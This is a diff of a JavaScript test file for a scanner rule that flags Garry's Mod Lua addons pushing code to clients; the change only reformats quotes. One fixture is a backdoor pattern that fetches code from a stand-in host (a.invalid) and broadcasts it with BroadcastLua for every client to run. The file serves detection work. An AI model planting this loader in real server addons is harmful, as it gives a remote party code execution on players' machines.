@@ -4,13 +4,19 @@ import { rule } from './client_code_push.js';
 import { check, RANK, worst } from './ruleTesting.js';
 
 describe('client_code_push', () => {
-  it("remote body broadcast to clients", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "http.Fetch(\"https://a.invalid/c\", function(b) BroadcastLua(b) end)"});
+  it('remote body broadcast to clients', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'http.Fetch("https://a.invalid/c", function(b) BroadcastLua(b) end)',
+    });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
-  it("constant notification snippet", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "BroadcastLua([[notification.AddLegacy(\"Map cleaned up\", NOTIFY_CLEANUP, 4)]])"});
+  it('constant notification snippet', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'BroadcastLua([[notification.AddLegacy("Map cleaned up", NOTIFY_CLEANUP, 4)]])',
+    });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
 });
